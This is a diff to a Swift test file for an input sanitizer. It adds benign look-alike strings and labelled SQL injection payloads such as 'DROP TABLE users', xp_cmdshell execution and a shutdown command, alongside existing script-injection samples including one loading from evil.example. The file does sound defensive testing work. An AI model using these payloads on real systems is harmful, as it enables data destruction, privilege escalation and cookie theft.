@@ -33,6 +33,9 @@ let benignCorpus: [String] = [
     "Sleep 5 minutes; sleep 10 more", "ping me; ping you", "root@server:~# ls -la", "Either 'A' or 'B' is fine",
     "I'll be there -- promise", "5' 11\" tall", "the 'or' operator", "10 < 20 and 30 > 20", "Tickets: $(price) each",
     "Select * from the menu below", "Bob's Burgers & Fries", "file.tar.gz", "a=1&b=2", "https://example.com/?redirect=/home",
+    "Insert coin; insert into slot", "Let's drop table tennis for now", "He wrote \"x\" or \"y\" like before",
+    "C:\\Windows\\System32\\drivers", "Edit your /etc/hosts file", "Use $(this).hide() in jQuery", "$(document).ready()",
+    "Use `cat file.txt | grep foo` to search", "user@host:~$ whoami", "rm -rf is dangerous", "Dr. Who & Co. | BBC",
     "Version 2.0.1-beta", "user_name-123", "10/20/2024", "1..10", "#hashtag #swift",
     // JSON in strings
     "{\"name\":\"Widget\",\"price\":9.99}", "[1, 2, 3]", "{\"query\": \"select\", \"or\": 1}", "{\"note\": \"it's fine\"}",
@@ -52,6 +55,8 @@ let attackCorpus: [(String, SanitizationRule)] = [
     ("x'; INSERT INTO admins VALUES ('evil')--", .sqlInjection), ("1 AND SLEEP(5)", .sqlInjection),
     ("1'; WAITFOR DELAY '0:0:5'--", .sqlInjection), ("' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--", .sqlInjection),
     ("1; UPDATE users SET role='admin'", .sqlInjection), ("' or true--", .sqlInjection),
+    ("1; DROP TABLE users--", .sqlInjection), ("'; CREATE TABLE pwn (x int)--", .sqlInjection), ("' OR username LIKE '%", .sqlInjection),
+    ("1;SHUTDOWN", .sqlInjection), ("'; EXEC xp_cmdshell 'dir'--", .sqlInjection),
     // HTML / script
     ("<script>alert(1)</script>", .markupInjection), ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", .markupInjection),
     ("javascript:alert(document.cookie)", .markupInjection), ("JaVaScRiPt:alert(1)", .markupInjection),
